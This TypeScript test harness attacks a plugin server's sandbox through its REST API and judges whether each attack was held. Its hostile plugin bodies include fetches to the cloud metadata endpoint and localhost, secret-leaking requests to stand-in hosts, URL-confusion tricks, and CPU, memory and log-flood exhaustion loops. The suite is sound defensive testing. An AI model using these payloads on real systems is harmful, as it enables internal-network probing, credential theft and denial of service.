// Attacks a server with hostile plugins, through its REST API alone, and says of each attack whether it was held: nothing reached
// the server, a plugin beside it went on, and the attempt stands in the runs where an operator looks. What it made, it removes.
import { ApiCallError } from '../../../../../sdk/client/index.ts';
import { poll } from '../../lib/poll.ts';
import { authority } from './authority.ts';
import { ownPrefix, packageOf, type Forged, type Hostile, type Scene } from './case.ts';
import { escapes } from './escape.ts';
import { gotThrough, blocked, judgeRuns, notJudged, unlessTouched, type AttackVerdict } from './judge.ts';
import { forgedCalls } from './forged-calls.ts';
import { callersAndReplays } from './scenes.ts';
import {
  allEnded,
  createStage,
  isOver,
  type AttackIssue,
  type Runs,
  type Stage,
  type StageOptions,
} from './stage.ts';
import { supplyChain } from './supply-chain.ts';

// Attacks 29 to 35: to reach other servers, this one, and secrets. None of them needs a receiver: what is held is refused before
// anything is sent, and any other answer, also that nobody is there, means that it got past the door.

const at = 'https://receiver.example';
const net = [{ origin: at, methods: ['POST' as const], path: '/v1/', why: 'an attack of the suite' }];

/** Asks each and finds what is not refused at the door. */
const ask = `const ask = async (...asked) => {
  try { await fetch(...asked); found.push('answered ' + String(asked[0]).slice(0, 60)); }
  catch (error) { if (error.code !== 'egress_denied') found.push(error.code + ' ' + String(asked[0]).slice(0, 60)); }
};`;
const post = `{ method: 'POST', body: 'x' }`;

const outside: readonly Hostile[] = [
  {
    group: 29,
    name: 'names-beside-the-named',
    ends: 'harmless',
    manifest: { net },
    body: `${ask}
      for (const url of ['https://receiver.example.evil.example/v1/', 'https://user@receiver.example/v1/', 'https://receiver.example@evil.example/v1/',
        'https://receiver.example:444/v1/', 'http://receiver.example/v1/', 'https://receiver.example/v2/', 'https://receiver.example/v1/../v2/'])
        await ask(url, ${post});
      await ask('${at}/v1/');`,
  },
  {
    group: 32,
    name: 'headers-that-route',
    ends: 'harmless',
    manifest: { net },
    body: `${ask}
      for (const header of ['host', 'Transfer-Encoding', 'content-length', 'Connection', 'proxy-authorization'])
        await ask('${at}/v1/', { ...${post}, headers: { [header]: 'receiver.example' } });`,
  },
  {
    group: 34,
    name: 'fetch-without-net',
    ends: 'harmless',
    body: `${ask}
      for (const url of ['http://127.0.0.1/', 'http://[::1]/', 'http://169.254.169.254/latest/meta-data/', 'http://localhost:8080/api/v1/me',
        'http://2130706433/', 'https://receiver.example/'])
        await ask(url);`,
  },
  {
    group: 35,
    name: 'secrets-elsewhere',
    ends: 'harmless',
    manifest: { net, secrets: { ATTACK_KEY: { hosts: [at], header: 'Authorization', format: 'Bearer {}' } } },
    body: `${ask}
      const ref = ctx.secrets.ref('ATTACK_KEY');
      await ask('${at}/v1/' + ref, ${post});
      await ask('${at}/v1/?key=' + ref, ${post});
      await ask('${at}/v1/', { method: 'POST', body: 'key=' + ref });
      await ask('${at}/v1/', { ...${post}, headers: { 'x-key': ref } });
      await ask('${at}/v1/', { ...${post}, headers: { authorization: 'Basic ' + ref } });
      try { if (ctx.secrets.ref('OTHER_KEY')) found.push('a secret that was not declared'); } catch {}`,
  },
];

// Attacks 20 to 28: until nothing is left for others. Those of a lost process, of 27 and 28, are made to the server by tests alone.

const exhaustions: readonly Hostile[] = [
  // It takes as long as a run may, beside which the others are made.
  { group: 21, name: 'never-settles', ends: 'stopped', code: 'wall', body: `await new Promise(() => {});` },
  { group: 20, name: 'loop', ends: 'stopped', code: 'cpu', body: `for (;;);` },
  {
    group: 20,
    name: 'loop-after-await',
    ends: 'stopped',
    code: 'cpu',
    body: `await ctx.issues.get(event.data.id); for (;;);`,
  },
  {
    group: 20,
    name: 'loop-in-getter',
    ends: 'stopped',
    body: `await ctx.issues.update(event.data.id, { get priority() { for (;;); } });`,
  },
  { group: 20, name: 'loop-at-start', ends: 'stopped', prelude: `for (;;);`, body: `` },
  {
    group: 22,
    name: 'microtasks',
    ends: 'stopped',
    body: `const again = () => Promise.resolve().then(again); await again();`,
  },
  { group: 23, name: 'regex', ends: 'stopped', code: 'cpu', body: `/^(a+)+$/.test('a'.repeat(40) + '!');` },
  { group: 24, name: 'heap', ends: 'stopped', body: `const all = []; for (;;) all.push({ a: [1, 2, 3] });` },
  {
    group: 24,
    name: 'typed-arrays',
    ends: 'stopped',
    body: `const all = []; for (;;) all.push(new Uint8Array(1e6).fill(1));`,
  },
  {
    group: 24,
    name: 'ropes',
    ends: 'stopped',
    body: `let text = 'x'; for (;;) { text += text; if (text.length > 1e8) text = text.slice(1).split('').join('-'); }`,
  },
  { group: 24, name: 'spread', ends: 'stopped', body: `let all = [1]; for (;;) all = [...all, ...all];` },
  {
    group: 25,
    name: 'a-million-calls',
    ends: 'stopped',
    body: `const all = []; for (let i = 0; i < 1e6; i++) all.push(ctx.issues.get(event.data.id)); await Promise.all(all);`,
  },
  {
    group: 25,
    name: 'calls-without-end',
    ends: 'stopped',
    code: 'call_budget',
    body: `for (;;) await ctx.kv.get('x');`,
  },
  {
    group: 26,
    name: 'log-flood',
    ends: 'either',
    body: `for (let i = 0; i < 2000; i++) ctx.log.info('\\u001b[2J\\u001b]0;owned\\u0007 ' + 'x'.repeat(200));`,
  },
];

/** The longest lasting first, so that the others are made beside it. */
export const hostiles: readonly Hostile[] = [...exhaustions, ...escapes, ...outside, ...authority];
export const scenes: readonly Scene[] = [...callersAndReplays, ...forgedCalls];
export const forgeries: readonly Forged[] = supplyChain;

/** Attacks at once: one that hangs does not hold up the others. */
const atOnce = 4;
/** The plugin beside them is waited for so long. */
const waitMs = 60_000;

export interface SuiteVerdict extends AttackVerdict {
  readonly group: number;
  readonly name: string;
  readonly ms: number;
}

export interface SuiteOptions extends StageOptions {
  /** By default all there are. */
  readonly hostiles?: readonly Hostile[];
  readonly scenes?: readonly Scene[];
  readonly forgeries?: readonly Forged[];
  readonly onVerdict?: (verdict: SuiteVerdict) => void;
}

const beside: Hostile = {
  group: 0,
  name: 'beside',
  ends: 'harmless',
  body: `await ctx.kv.increment('met');`,
};

/** In the order in which they ended. @throws ApiCallError where the server does not let the suite itself do something */
export async function runSuite(options: SuiteOptions): Promise<SuiteVerdict[]> {
  const { signal } = options;
  const stage = createStage(options);
  const verdicts: SuiteVerdict[] = [];
  const judge = async ({ group, name, play }: Scene): Promise<void> => {
    if (signal?.aborted) return;
    const from = performance.now();
    const verdict = { group, name, ...(await play(stage)), ms: Math.round(performance.now() - from) };
    // Of what was not waited for nobody can tell.
    if (signal?.aborted) return;
    verdicts.push(verdict);
    options.onVerdict?.(verdict);
  };
  await stage.begin();
  try {
    const good = packageOf(beside, 'tatami.attack-beside', 'tatami.attack', options.stranger);
    const wide = {
      ...good.manifest,
      on: { 'issue.created': { filter: { title: { startsWith: 'tatami.attack' } } } },
    };
    const peer = await stage.install({ ...good, manifest: wide });
    await playAll([...(options.hostiles ?? hostiles).map(sceneOf), ...(options.scenes ?? scenes)], judge);
    for (const forged of options.forgeries ?? forgeries)
      await judge({ ...forged, play: () => tryForged(stage, forged.forge(good)) });
    await judge({ group: 0, name: 'an uninvolved plugin', play: () => judgePeer(stage, peer) });
    return verdicts;
  } finally {
    await stage.removeAll();
  }
}

/** After an error no further attack begins, and those under way end, so that the stage knows all that they made. */
async function playAll(left: Scene[], judge: (scene: Scene) => Promise<void>): Promise<void> {
  const work = async (): Promise<void> => {
    try {
      for (let next = left.shift(); next; next = left.shift()) await judge(next);
    } finally {
      left.length = 0;
    }
  };
  await allEnded(Array.from({ length: atOnce }, work));
}

const sceneOf = (hostile: Hostile): Scene => ({ ...hostile, play: (stage) => attack(stage, hostile) });

async function attack(stage: Stage, hostile: Hostile): Promise<AttackVerdict> {
  const title = ownPrefix + hostile.name;
  const plugin = await stage.install(packageOf(hostile, title, title, stage.stranger));
  const issues: AttackIssue[] = [];
  let runs: Runs = [];
  for (let count = 1; count <= (hostile.runs ?? 1); count++) {
    issues.push(await stage.createIssue(title));
    runs = await stage.runs([plugin], (now) => areDone(hostile, now, count));
  }
  const found = judgeRuns(hostile, runs);
  const judged = hostile.isLoop ? found : await unlessTouched(stage, plugin, issues, found);
  await stage.remove(`/plugins/${plugin}`, ...issues.map(({ id }) => `/issues/${id}`));
  return judged;
}

/** So many runs have ended, or failed a first time; of a loop, it is cut. */
const areDone = ({ isLoop }: Hostile, runs: Runs, count: number): boolean =>
  runs.length >= count && runs.every(isOver) && (!isLoop || runs.some(({ status }) => status === 'dead'));

async function tryForged(stage: Stage, document: unknown): Promise<AttackVerdict> {
  try {
    const { id } = await stage.call<{ id: string }>('POST', '/plugins', { package: document, grant: [] });
    stage.add(`/plugins/${id}`);
    await stage.remove(`/plugins/${id}`);
    return gotThrough('the package was installed');
  } catch (error) {
    if (!(error instanceof ApiCallError)) throw error;
    if (error.status >= 400 && error.status < 500) return blocked(error.code);
    return notJudged(`${error.status} ${error.message}`);
  }
}

async function judgePeer(stage: Stage, plugin: string): Promise<AttackVerdict> {
  const look = async (): Promise<number> =>
    stage.call<{ value: number }>('GET', `/plugins/${plugin}/kv/met`).then(
      ({ value }) => value,
      () => 0,
    );
  const met = await poll(0, look, (value) => value >= stage.issues, waitMs);
  const why = `processed ${met} of ${stage.issues} issues`;
  return met === stage.issues ? blocked(why) : gotThrough(why);
}
